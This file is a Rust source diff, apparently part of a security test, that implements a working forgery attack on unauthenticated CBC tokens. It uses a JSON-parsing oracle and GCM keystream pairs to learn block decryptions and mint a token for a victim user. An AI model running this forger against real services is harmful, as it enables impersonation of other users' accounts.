@@ -1,0 +1,279 @@
+//! A forger who has tokens of their own and no secret.
+//!
+//! CBC has no tag, so a token can be put together from blocks of others: each block then decrypts to
+//! `D(block) ^ the block before`. The forger looks for a token in which a block X of their own is hidden in a text
+//! that is read nevertheless ([`Hole`]). Whether it is read tells something about `D(X) ^ R`, with an R of their choice. Some
+//! thousand answers tell `D(X)`. With it they write a token for anybody, from the last block to the first.
+
+use std::collections::HashSet;
+
+use zim_protocol::ErrorCode;
+
+use crate::{APP, NOW_S, VICTIM};
+
+pub(crate) type Block = [u8; 16];
+
+/// A block and what it decrypts to, before the block in front of it is added.
+#[derive(Clone, Copy)]
+pub(crate) struct Pair {
+    pub(crate) block: Block,
+    pub(crate) decrypted: Block,
+}
+
+fn xor(a: Block, b: Block) -> Block {
+    std::array::from_fn(|index| a[index] ^ b[index])
+}
+
+/// A token that the forger asks about.
+#[derive(Clone, Debug)]
+pub(crate) struct Question {
+    pub(crate) expire: i64,
+    pub(crate) iv: Block,
+    pub(crate) blocks: Vec<Block>,
+}
+
+/// All that somebody who asks gets to see.
+pub(crate) type Answer = Result<i64, (ErrorCode, &'static str)>;
+
+/// Numbers that are as good as random, and the same in every run.
+pub(crate) struct Random(u64);
+
+impl Random {
+    pub(crate) fn new(seed: u64) -> Self {
+        Self(seed)
+    }
+
+    fn number(&mut self) -> u64 {
+        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
+        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
+        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
+        mixed ^ (mixed >> 31)
+    }
+
+    pub(crate) fn below(&mut self, end: usize) -> usize {
+        usize::try_from(self.number() % u64::try_from(end).unwrap()).unwrap()
+    }
+
+    pub(crate) fn block(&mut self) -> Block {
+        let halves = [self.number().to_le_bytes(), self.number().to_le_bytes()];
+        *halves.as_flattened().first_chunk().unwrap()
+    }
+
+    fn of<T: Copy>(&mut self, list: &[T]) -> T {
+        list[self.below(list.len())]
+    }
+}
+
+pub(crate) struct Forger<'a> {
+    ask: &'a dyn Fn(&Question) -> Answer,
+    /// How many questions are left.
+    pub(crate) budget: u32,
+    random: Random,
+    /// What was ever answered.
+    pub(crate) answers: HashSet<Answer>,
+    /// The answer to nonsense.
+    usual: Answer,
+    /// The questions that had another answer.
+    pub(crate) hits: Vec<Question>,
+}
+
+impl<'a> Forger<'a> {
+    pub(crate) fn new(ask: &'a dyn Fn(&Question) -> Answer, seed: u64, budget: u32) -> Self {
+        let mut random = Random::new(seed);
+        let nonsense = Question { expire: NOW_S + 3_600, iv: random.block(), blocks: vec![random.block()] };
+        let usual = ask(&nonsense);
+        Self { ask, budget, random, answers: HashSet::from([usual]), usual, hits: Vec::new() }
+    }
+
+    /// Whether the answer is another than that to nonsense; nothing if the questions are used up.
+    fn is_hit(&mut self, question: Question) -> Option<bool> {
+        self.budget = self.budget.checked_sub(1)?;
+        let answer = (self.ask)(&question);
+        self.answers.insert(answer);
+        let is_hit = answer != self.usual;
+        if is_hit {
+            self.hits.push(question);
+        }
+        Some(is_hit)
+    }
+
+    /// What `x` decrypts to.
+    fn learn(&mut self, x: Block, hole: &Hole) -> Option<Block> {
+        loop {
+            let filler = loop {
+                let (r, filler) = (self.random.block(), self.random.number() % 100_000);
+                if self.is_hit(hole.question(&[r, x], filler))? {
+                    break filler;
+                }
+            };
+            // From now on what follows X is known to be harmless.
+            if let Some(decrypted) = self.narrow(x, hole, filler)? {
+                return Some(decrypted);
+            }
+        }
+    }
+
+    /// Nothing inside if a hit was not what it seemed, as when a backslash stands in front of a quote.
+    fn narrow(&mut self, x: Block, hole: &Hole, filler: u64) -> Option<Option<Block>> {
+        let mut possible: [Vec<u8>; 16] = std::array::from_fn(|_| (0..=u8::MAX).collect());
+        let (mut left, mut in_vain) = (16 * 256, 0);
+        while left > 16 {
+            let r = self.best(&possible);
+            if self.is_hit(hole.question(&[r, x], filler))? {
+                for (values, r) in possible.iter_mut().zip(r) {
+                    values.retain(|value| !is_harmful(value ^ r));
+                }
+            }
+            let before = std::mem::replace(&mut left, possible.iter().map(Vec::len).sum());
+            in_vain = if left < before { 0 } else { in_vain + 1 };
+            if in_vain > 1_000 || possible.iter().any(Vec::is_empty) {
+                return Some(None);
+            }
+        }
+        let decrypted = possible.map(|values| values[0]);
+        // Right if X can be made to say what is read only if six bytes are right, at three places.
+        for place in [0, 5, 10] {
+            let mut is_right = false;
+            for _ in 0..200 {
+                let mut said = text(&format!("{:016}", self.random.number() % 10_000_000_000_000_000));
+                said[place..place + 6].copy_from_slice(br#"","":""#);
+                is_right = self.is_hit(hole.question(&[xor(decrypted, said), x], filler))?;
+                if is_right {
+                    break;
+                }
+            }
+            if !is_right {
+                return Some(None);
+            }
+        }
+        Some(Some(decrypted))
+    }
+
+    /// The next R: as much as possible is learnt if nothing of X turns out to be harmful, and that is likely enough.
+    fn best(&mut self, possible: &[Vec<u8>; 16]) -> Block {
+        let mut r = [0; 16];
+        let mut risk = 0.0;
+        let first = self.random.below(16);
+        for place in (0..16).map(|place| (first + place) % 16) {
+            let values = &possible[place];
+            let risk_of = |r: u8| {
+                let harmful = values.iter().filter(|value| is_harmful(**value ^ r)).count();
+                f64::from(u32::try_from(harmful).unwrap()) / f64::from(u32::try_from(values.len()).unwrap())
+            };
+            // No backslash: with the byte behind it, it may be an escape, which is read.
+            let telling = self.random.of(values) ^ self.random.of(b"\"\x01\x1f");
+            let is_worth_it = values.len() > 1 && risk_of(telling) <= 0.5 && risk + risk_of(telling) <= 1.0;
+            r[place] = if is_worth_it {
+                telling
+            } else {
+                let some: [u8; 8] = *self.random.block().first_chunk().unwrap();
+                some.into_iter().min_by(|a, b| risk_of(*a).total_cmp(&risk_of(*b))).unwrap()
+            };
+            risk += risk_of(r[place]);
+        }
+        r
+    }
+
+    /// A token for the victim, with a block that is known at its end. The old rules read an array as well.
+    pub(crate) fn forge(&mut self, known: Pair, hole: &Hole) -> Option<Question> {
+        let expire = NOW_S + 2_000_000;
+        let text = format!("[{APP},\"{VICTIM}\",0,{expire}]\x01");
+        let [first, last] = *text.as_bytes().as_chunks().0 else { unreachable!() };
+        let before = xor(known.decrypted, last);
+        let iv = xor(self.learn(before, hole)?, first);
+        Some(Question { expire, iv, blocks: vec![before, known.block] })
+    }
+}
+
+/// Ends a JSON string, or is not allowed within one.
+pub(crate) fn is_harmful(byte: u8) -> bool {
+    byte < b' ' || byte == b'"' || byte == b'\\'
+}
+
+fn text(text: &str) -> Block {
+    text.as_bytes().try_into().unwrap()
+}
+
+/// A text with room for blocks of any content: it opens a string, and after them closes it and goes on.
+pub(crate) struct Hole {
+    expire: i64,
+    iv: Block,
+    head: Vec<Block>,
+    /// Where the text goes on, with a filler, in a block that is known.
+    join: Pair,
+    closing: fn(u64) -> String,
+    rest: Vec<Block>,
+}
+
+impl Hole {
+    fn question(&self, inside: &[Block], filler: u64) -> Question {
+        let before = xor(self.join.decrypted, text(&(self.closing)(filler)));
+        let blocks = [&self.head[..], inside, &[before, self.join.block], &self.rest].concat();
+        Question { expire: self.expire, iv: self.iv, blocks }
+    }
+}
+
+/// With one token of one's own: holes in a key that nobody knows, in a payload that comes first, and in the payload where it
+/// belongs, and a block that is known.
+pub(crate) fn holes_of_a_cbc_token(own: &Question, said: &str) -> (Vec<Hole>, Pair) {
+    let texts = said.as_bytes().as_chunks::<16>().0;
+    let known = |index: usize| {
+        let before = if index == 0 { own.iv } else { own.blocks[index - 1] };
+        Pair { block: own.blocks[index], decrypted: xor(texts[index], before) }
+    };
+    let first = known(0);
+    let opened = |opening: &str| Hole {
+        expire: own.expire,
+        iv: xor(first.decrypted, text(opening)),
+        head: vec![first.block],
+        join: first,
+        closing: |filler| format!(r#"","app_id":{filler:05}"#),
+        rest: own.blocks[1..].to_vec(),
+    };
+    // The fourth block opens the payload, the fifth is within.
+    assert_eq!((&texts[3], &texts[4]), (b"d\":\"------------", &[b'-'; 16]));
+    let in_place = Hole {
+        expire: own.expire,
+        iv: own.iv,
+        head: own.blocks[..4].to_vec(),
+        join: known(4),
+        closing: |filler| format!("-----------{filler:05}"),
+        rest: own.blocks[5..].to_vec(),
+    };
+    (vec![opened(r#"{"":"aaaaaaaaaaa"#), opened(r#"{"payload":"aaaa"#), in_place], first)
+}
+
+/// The key stream of GCM is the encryption of the nonce and a counter: with a text that is known, it is made of pairs.
+pub(crate) fn pairs_of(nonce: [u8; 12], sealed: &[u8], said: &str) -> Vec<Pair> {
+    let blocks = said.as_bytes().as_chunks().0.iter().zip(sealed.as_chunks().0);
+    let pair = |(counter, (said, sealed)): (u32, (&Block, &Block))| {
+        let counted = [&nonce[..], &counter.to_be_bytes()].concat();
+        Pair { block: xor(*said, *sealed), decrypted: counted.try_into().unwrap() }
+    };
+    // What comes after the user id is not known as surely.
+    (2..).zip(blocks).take(4).map(pair).collect()
+}
+
+/// A hole in a text that is put together from pairs alone. Three blocks of it are as they come: one must end in a quote and
+/// two be harmless, which is so once in 219,000 times.
+pub(crate) fn hole_of_pairs(forger: &mut Forger<'_>, pairs: &[Pair]) -> Option<Hole> {
+    loop {
+        let [first, second, third, last] = [(); 4].map(|()| forger.random.of(pairs));
+        let [expire, ctime] = [(); 2].map(|()| forger.random.number() % 10);
+        let rest = vec![
+            xor(second.decrypted, text(&format!(r#","expire":{expire},"":""#))),
+            second.block,
+            xor(third.decrypted, text(&format!(r#"","ctime":{ctime},"":""#))),
+            third.block,
+            xor(last.decrypted, text("\",\"user_id\":\"\"}\x01")),
+            last.block,
+        ];
+        let iv = xor(first.decrypted, text(r#"{"app_id":1,"":""#));
+        let blocks = [&[first.block][..], &rest].concat();
+        let expire = i64::try_from(expire).unwrap();
+        if forger.is_hit(Question { expire, iv, blocks })? {
+            let closing = |filler| format!(r#"","":"{filler:010}"#);
+            return Some(Hole { expire, iv, head: vec![first.block], join: first, closing, rest });
+        }
+    }
+}
